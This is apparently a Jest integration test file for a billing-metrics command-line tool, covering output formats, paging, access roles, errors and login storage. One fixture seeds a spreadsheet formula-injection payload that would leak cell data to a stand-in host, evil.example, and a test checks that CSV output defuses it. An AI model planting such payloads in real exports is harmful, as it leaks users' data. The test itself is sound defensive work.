/** The commands of a reader, against the real API. */
import { mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { bearer, metricsPath, startApi, type TestApi } from '../harness/api.js';
import { event } from '../harness/events.js';
import { runCommand } from './run-command.js';

const ACCOUNT = 'acme';
const DAY = ['--from', '2025-10-01', '--to', '2025-10-02'];
const DAY_QUERY = { startTime: '2025-10-01T00:00:00Z', endTime: '2025-10-02T00:00:00Z' };
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"total")';

let api: TestApi;
let key: string;
let env: Record<string, string>;
let directory: string;

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'meterline-reader-'));
  api = await startApi();
  key = await api.key(ACCOUNT);
  env = { METERLINE_API_URL: api.url, METERLINE_API_KEY: key };
  await api.seed([
    event({ accountId: ACCOUNT, workspace: 'main', resourceName: FORMULA, cost: '120', usage: '1234567.891' }),
    event({ accountId: ACCOUNT, workspace: 'main', resourceName: 'box', at: '2025-10-01T20:00:00Z', cost: '60.5' }),
    event({ accountId: ACCOUNT, workspace: '東京', resourceName: 'box', cost: '0.000000000001', usage: '0.5' }),
    ...Array.from({ length: 210 }, (_, n) =>
      event({ accountId: 'wide', resourceName: `box-${String(n).padStart(3, '0')}`, cost: '0.01' }),
    ),
  ]);
});
afterAll(async () => {
  await api.stop();
  await rm(directory, { recursive: true });
});

describe('meterline metrics', () => {
  it('prints a table that adds up, with shares and bars', async () => {
    const run = await runCommand(['metrics', ...DAY, '--group-by', 'workspace'], { env });
    expect(run).toMatchObject({ code: 0, stderr: '' });
    expect(run.stdout).toBe(
      [
        'acme: 2025-10-01T00:00:00Z to 2025-10-02T00:00:00Z (UTC), hourly',
        '',
        'WORKSPACE             COST   SHARE  TREND',
        'main               $180.50  >99.9%  ··········█·········▅···',
        '東京       $0.000000000001   <0.1%  ··········█·············',
        'Total              $180.50  100.0%',
        '',
      ].join('\n'),
    );
  });

  it('has all accounts of an operator, in one table and as CSV', async () => {
    const operator = { ...env, METERLINE_API_KEY: await api.key('platform', 'operator') };
    const args = ['metrics', ...DAY, '--all-accounts', '--group-by', 'account'];
    const table = await runCommand(args, { env: operator });
    expect(table.stdout.replace(/ +[·▁-█]+$/gm, '')).toBe(
      [
        'All accounts: 2025-10-01T00:00:00Z to 2025-10-02T00:00:00Z (UTC), hourly',
        '',
        'ACCOUNT     COST   SHARE  TREND',
        'acme     $180.50   98.8%',
        'wide       $2.10    1.2%',
        'Total    $182.60  100.0%',
        '',
      ].join('\n'),
    );
    const csv = await runCommand([...args, '--filter', 'account=wide', '--csv'], { env: operator });
    expect(csv.stdout.split('\r\n').map((line) => line.split(',')[0])).toEqual(['\uFEFFaccount', 'wide', '']);
    expect((await runCommand(args, { env })).stdout).not.toContain('wide');
  });

  it('says that a resource is of several workspaces, to an admin alone', async () => {
    const args = ['metrics', ...DAY, '--group-by', 'resource_name', '--resource-name', 'box'];
    const member = { ...env, METERLINE_API_KEY: await api.key(ACCOUNT, 'member') };
    const [seen, hidden] = await Promise.all([runCommand(args, { env }), runCommand(args, { env: member })]);
    expect(seen.stdout).toMatch(/^several workspaces +sandbox +box +\$60\.50/m);
    expect(hidden.stdout).toMatch(/^sandbox +box +\$60\.50/m);
  });

  it('prints usage with its unit, and every digit with --exact', async () => {
    const args = ['metrics', ...DAY, '--group-by', 'billing_dimension,workspace', '--exact'];
    const { stdout } = await runCommand(args, { env });
    expect(stdout).toMatch(/^main +sandbox +sandbox_compute_runtime_gbs +\$180\.50 +>99\.9% +1,234,568\.891 GB-s /m);
    expect(stdout).toMatch(/^Total +\$180\.500000000001 +100\.0%$/m);
  });

  it('shows what is on other pages as a row of its own, or reads them with --all', async () => {
    const wide = { ...env, METERLINE_API_KEY: await api.key('wide') };
    const args = ['metrics', ...DAY, '--group-by', 'resource_name'];
    const [first, all] = await Promise.all([
      runCommand(args, { env: wide }),
      runCommand([...args, '--all'], { env: wide }),
    ]);
    expect(first.stderr).toBe('These are the first 100 groups; --all reads every page.\n');
    expect(first.stdout).toMatch(/^\(other groups\) .* \$1\.10 +52\.4%$/m);
    expect(first.stdout).toMatch(/^Total .* \$2\.10 +100\.0%$/m);
    expect(all.stderr).toBe('Read 210 groups on 3 pages.\n');
    expect(all.stdout.match(/^main .*box-\d{3} /gm)).toHaveLength(210);
    expect(all.stdout).not.toContain('other groups');
  });

  it('prints with --json what the API answers, and a page a line with --all', async () => {
    const { text } = await api.request(metricsPath(ACCOUNT, DAY_QUERY), bearer(key));
    expect((await runCommand(['metrics', ...DAY, '--json'], { env })).stdout).toBe(`${text}\n`);
    const args = ['metrics', ...DAY, '--group-by', 'resource_name', '--limit', '1', '--all', '--json'];
    const { stdout } = await runCommand(args, { env });
    const pages = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(pages.map(({ data }) => data[0].resourceName)).toEqual([FORMULA, 'box']);
  });

  it('prints CSV whose names are no formulas and whose amounts are exact', async () => {
    const args = ['metrics', ...DAY, '--group-by', 'resource_name,billing_dimension', '--csv'];
    expect((await runCommand(args, { env })).stdout).toBe(
      [
        '\uFEFFworkspace,resourceType,resourceName,billingDimension,startTime,endTime,costUsd,usage,unit,sharePercent',
        `main,sandbox,"'=HYPERLINK(""http://evil.example/?""&A1,""total"")",sandbox_compute_runtime_gbs,2025-10-01T00:00:00Z,2025-10-02T00:00:00Z,120,1234567.891,gbs,66.481994`,
        ',sandbox,box,sandbox_compute_runtime_gbs,2025-10-01T00:00:00Z,2025-10-02T00:00:00Z,60.500000000001,1.5,gbs,33.518006',
        '',
      ].join('\r\n'),
    );
  });

  it('prints with --series a line for each bucket', async () => {
    const { stdout } = await runCommand(['metrics', ...DAY, '--csv', '--series'], { env });
    const lines = stdout.trimEnd().split('\r\n');
    expect([lines[0], lines.length, lines[11]]).toEqual([
      '\uFEFFtimestamp,resolution,costUsd',
      25,
      '2025-10-01T10:00:00Z,hourly,120.000000000001',
    ]);
  });

  it.each([
    [['--workspace', '東京'], '0.000000000001'],
    [['--resource-name', 'box', '--workspace', 'main'], '60.5'],
    [['--resource-type', 'agent'], '0'],
    [['--workspace', '東京', '--workspace', 'main', '--resource-name', 'box'], '60.500000000001'],
    [['--resource-type', 'agent', '--resource-type', 'sandbox'], '180.500000000001'],
    [['--without-resource-uuid'], '0'],
    [['--billing-dimension', 'sandbox_compute_runtime_gbs', '--resolution', 'daily'], '180.500000000001'],
  ])('filters with %j', async (filter, cost) => {
    const { stdout } = await runCommand(['metrics', ...DAY, ...filter, '--json'], { env });
    expect(stdout).toContain(`"summary":{"totalCost":${cost}}`);
  });

  it('says that nothing was used', async () => {
    const { code, stdout } = await runCommand(['metrics', '--since', '1h', '--group-by', 'workspace'], { env });
    expect({ code, stdout }).toMatchObject({ code: 0, stdout: expect.stringContaining('Nothing was used') });
  });
});

describe('what can go wrong', () => {
  it.each<[string, string[], Record<string, string>, number, RegExp]>([
    [
      'an unknown key',
      ['metrics'],
      { METERLINE_API_KEY: 'mlk_nope' },
      3,
      /\(401 unauthorized, request [0-9a-f-]{36}\)\nThe key is from METERLINE_API_KEY/,
    ],
    [
      'another account',
      ['metrics', '--account', 'other'],
      {},
      3,
      /^meterline: Access denied \(403 forbidden, request /,
    ],
    [
      'a window over the cap',
      ['metrics', '--since', '8d', '--resolution', 'hourly'],
      {},
      2,
      /at most 7 days.* \(400 invalid_parameter, /,
    ],
    ['nobody there', ['accounts'], { METERLINE_API_URL: 'http://127.0.0.1:9' }, 4, /^meterline: .*127\.0\.0\.1:9/],
    [
      'no key',
      ['metrics'],
      { METERLINE_API_KEY: '' },
      2,
      /^meterline: there is no API key for http.* \(from METERLINE_API_URL\)/,
    ],
  ])('%s is reported on stderr, with an exit code of its own', async (_name, args, variables, code, message) => {
    const run = await runCommand(args, { env: { ...env, ...variables } });
    expect({ code: run.code, stdout: run.stdout }).toEqual({ code, stdout: '' });
    expect(run.stderr).toMatch(message);
  });

  it('a member who groups by workspace learns why not', async () => {
    const member = { ...env, METERLINE_API_KEY: await api.key(ACCOUNT, 'member') };
    const run = await runCommand(['metrics', ...DAY, '--group-by', 'workspace'], { env: member });
    expect(run).toMatchObject({
      code: 3,
      stderr: expect.stringContaining('only an admin may group or filter by workspace'),
    });
  });
});

describe('login', () => {
  it('keeps a key that works, in a file for its owner alone; logout forgets it', async () => {
    const file = join(directory, 'meterline', 'config.json');
    const own = { XDG_CONFIG_HOME: directory };
    const login = await runCommand(['login', '--api-url', `${api.url}/v0/`], { env: own, stdin: `${key}\n` });
    expect(login).toMatchObject({ code: 0, stdout: '', stderr: expect.stringContaining('admin of acme') });
    expect(login.stderr).not.toContain(key);
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    expect(JSON.parse(await readFile(file, 'utf8'))).toEqual({ apiUrl: api.url, apiKey: key, account: ACCOUNT });

    const who = await runCommand(['whoami', '--json'], { env: own });
    expect(JSON.parse(who.stdout)).toMatchObject({
      apiUrl: api.url,
      apiUrlFrom: { kind: 'login file', source: file },
      keyFrom: { kind: 'login file', source: file },
      account: ACCOUNT,
    });
    expect(who.stdout).not.toContain(key);
    expect((await runCommand(['resource-types', ...DAY], { env: own })).stdout).toBe('sandbox\n');
    // A key is not sent to an address that it was not given for.
    expect(await runCommand(['accounts', '--api-url', 'http://127.0.0.1:9'], { env: own })).toMatchObject({
      code: 2,
    });

    expect(await runCommand(['logout'], { env: own })).toMatchObject({ code: 0 });
    expect(await runCommand(['accounts', '--api-url', api.url], { env: own })).toMatchObject({ code: 2 });
  });

  it('goes before a local stack that runs here, which whoami names too', async () => {
    const dataDir = join(directory, 'stack');
    await mkdir(dataDir);
    const addresses = {
      apiUrl: 'http://127.0.0.1:9',
      redisUrl: 'redis://127.0.0.1:9',
      clickhouseUrl: 'http://127.0.0.1:9',
    };
    const login = { clickhouseUser: 'u', clickhousePassword: '', clickhouseDatabase: 'd' };
    const keys = { account: 'demo', adminKey: 'a', memberKey: 'm' };
    await writeFile(join(dataDir, 'local.json'), JSON.stringify({ ...addresses, ...login, ...keys }));
    const file = join(directory, 'third', 'meterline', 'config.json');
    const own = { XDG_CONFIG_HOME: join(directory, 'third'), METERLINE_DATA_DIR: dataDir };
    await runCommand(['login', '--api-url', api.url], { env: own, stdin: `${key}\n` });
    const { stdout, stderr } = await runCommand(['whoami'], { env: { ...own, METERLINE_ACCOUNT: ACCOUNT } });
    expect(stdout.split('\n').slice(0, 3)).toEqual([
      `API      ${api.url} (login file: ${file})`,
      `Key      ${key.slice(0, 10)}… (login file: ${file})`,
      `Account  ${ACCOUNT} (environment: METERLINE_ACCOUNT)`,
    ]);
    expect(stderr).toBe('The local stack that runs here is not asked; --api-url http://127.0.0.1:9 names it.\n');
  });

  it('says which setting overrides it', async () => {
    const own = { XDG_CONFIG_HOME: join(directory, 'second'), METERLINE_API_URL: 'http://127.0.0.1:9' };
    const { code, stderr } = await runCommand(['login', '--api-url', api.url], { env: own, stdin: `${key}\n` });
    expect({ code, stderr }).toMatchObject({
      code: 0,
      stderr: expect.stringContaining(`http://127.0.0.1:9 (from METERLINE_API_URL) comes before it`),
    });
  });

  it.each([
    ['a key that the API refuses', 'mlk_nope\n', 3],
    ['no key', '', 2],
  ])('keeps nothing of %s', async (_name, stdin, code) => {
    const env = { XDG_CONFIG_HOME: join(directory, 'none') };
    const run = await runCommand(['login', '--api-url', api.url], { env, stdin });
    expect(run.code).toBe(code);
    await expect(stat(env.XDG_CONFIG_HOME)).rejects.toMatchObject({ code: 'ENOENT' });
  });
});

describe('without a server', () => {
  it('dimensions lists units and prices', async () => {
    const { code, stdout, stderr } = await runCommand(['dimensions']);
    expect({ code, lines: stdout.trimEnd().split('\n').length }).toEqual({ code: 0, lines: 13 });
    expect(stdout).toMatch(/^volume_storage_gbs +volume +GB-s +\$0\.12 per GB-month$/m);
    expect(stderr).toContain('built-in example book');
  });

  it('estimate prices a list, and a file of events, as the service would', async () => {
    const args = ['estimate', 'agent_compute_runtime_gbs=86400', 'agent_async_requests_count=1000000', '--json'];
    expect(JSON.parse((await runCommand(args)).stdout)).toEqual({
      currency: 'USD',
      lines: [
        { billingDimension: 'agent_compute_runtime_gbs', usage: '86400', cost: '0.9936' },
        { billingDimension: 'agent_async_requests_count', usage: '1000000', cost: '0.2' },
      ],
      totalCost: '1.1936',
    });
    const file = join(directory, 'events.jsonl');
    await writeFile(
      file,
      '{"billingDimension":"volume_storage_gbs","usage":"1","eventId":"x"}\n\n{"billingDimension":"volume_storage_gbs","usage":2,"void":true}\n',
    );
    // 0.12 / 2,628,000, rounded half-even once to 12 decimals.
    expect((await runCommand(['estimate', '--file', file, '--json'])).stdout).toContain('"totalCost":"0.000000045662"');
    const bad = await runCommand(['estimate', '--file', '-'], {
      stdin: '{"billingDimension":"volume_storage_gbs"}\n',
    });
    expect(bad).toMatchObject({ code: 1, stderr: expect.stringContaining('standard input:1: usage must be') });
  });
});
